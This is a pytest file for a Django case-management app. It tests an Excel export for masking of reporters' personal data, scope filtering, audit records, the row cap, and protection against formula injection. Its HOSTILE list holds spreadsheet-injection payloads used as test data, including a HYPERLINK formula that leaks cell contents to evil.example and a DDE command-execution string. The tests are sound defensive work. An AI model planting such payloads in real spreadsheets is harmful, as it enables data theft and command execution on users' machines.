"""The Excel export of the case list: the same filters and scope as the page, personal data masked (and only
for those who may see who reported), every export audited, the cap said, and no cell Excel would evaluate."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from gridgov.cases import exports
from gridgov.cases.choices import State
from gridgov.core.models import AuditRecord

from .helpers import case_in, report_case

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def client_for(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    c.cookies["django_language"] = "en"
    return c


def sheet(response) -> tuple[list[str], list[list[Any]], Any]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb.worksheets[0]
    rows = [list(r) for r in ws.iter_rows()]
    header = [c.value for c in rows[0]]
    return header, rows[1:], wb


@pytest.fixture
def phone_case(world):
    return case_in(world, State.REGISTERED, reporter="phone")


def test_export_masks_the_reporter_and_is_audited(world, phone_case):
    own = case_in(world, State.REGISTERED)
    elsewhere = report_case(world, world.other_resident, where=(109.15, 40.05))
    response = client_for(world.operator).get(reverse("cases:export"), {"state": "registered"})
    header, rows, _wb = sheet(response)
    assert header[:3] == ["Case number", "State", "Item"]
    assert "Reporter phone (masked)" in header
    by_number = {r[0].value: r for r in rows}
    assert set(by_number) == {phone_case.number, own.number}  # filtered, and never out of scope
    assert elsewhere.number not in by_number
    phone_col = header.index("Reporter phone (masked)")
    name_col = header.index("Reporter (masked)")
    assert by_number[phone_case.number][phone_col].value == "138****1111"
    assert by_number[own.number][name_col].value == "王*明"  # the resident 王小明, masked
    assert all("13800001111" not in str(c.value) for r in rows for c in r)
    record = AuditRecord.objects.filter(action="case.export").latest("id")
    assert record.actor_id == world.operator.pk
    assert record.data["rows"] == 2 and record.data["filters"] == {"state": "registered"}
    assert record.data["truncated"] is False


def test_departments_never_get_the_reporter_and_phones_are_not_written_in_the_audit(world, phone_case):
    case_in(world, State.DISPATCHED, reporter="phone")
    header, rows, _wb = sheet(client_for(world.handler).get(reverse("cases:export")))
    assert len(rows) == 1
    assert "Reporter (masked)" not in header and "Reporter phone (masked)" not in header
    # An operator's phone search is audited without the number.
    client_for(world.operator).get(reverse("cases:export"), {"phone": "13800001111"})
    record = AuditRecord.objects.filter(action="case.export", actor=world.operator).latest("id")
    assert record.data["rows"] == 2 and "13800001111" not in str(record.data)


def test_formula_injection_is_neutralised(world):
    for text in HOSTILE:
        report_case(world, description=text, address=text)
    header, rows, _wb = sheet(client_for(world.operator).get(reverse("cases:export")))
    desc, addr = header.index("Description"), header.index("Address")
    seen = set()
    for r in rows:
        for cell in (r[desc], r[addr]):
            assert cell.data_type == "s", (cell.value, cell.data_type)  # text, never a formula
            assert cell.quotePrefix, cell.value  # and stays text when edited in Excel
            seen.add(cell.value)
    # The text is kept as written (strip()ped by intake), only marked as text.
    assert {t.strip() for t in HOSTILE} <= {str(v).strip() for v in seen}


def test_the_cap_is_said_in_the_file_and_the_audit(world, monkeypatch):
    monkeypatch.setattr(exports, "CAP", 2)
    for _ in range(3):
        report_case(world)
    response = client_for(world.operator).get(reverse("cases:export"))
    _header, rows, wb = sheet(response)
    assert response["X-Export-Truncated"] == "2"
    assert len(rows) == 3 and "Only the first 2 cases were exported" in rows[-1][0].value
    about = {r[0].value: r[1].value for r in wb.worksheets[1].iter_rows()}
    assert about["Cases"] == 2 and about["Cut at"] == 2
    assert AuditRecord.objects.filter(action="case.export").latest("id").data["truncated"] is True


def test_the_list_links_to_the_export_of_the_same_filters(world):
    report_case(world)
    html = (
        client_for(world.operator).get(reverse("cases:list"), {"state": "reported", "sort": "oldest"}).content
    )
    assert f"{reverse('cases:export')}?state=reported&amp;sort=oldest".encode() in html
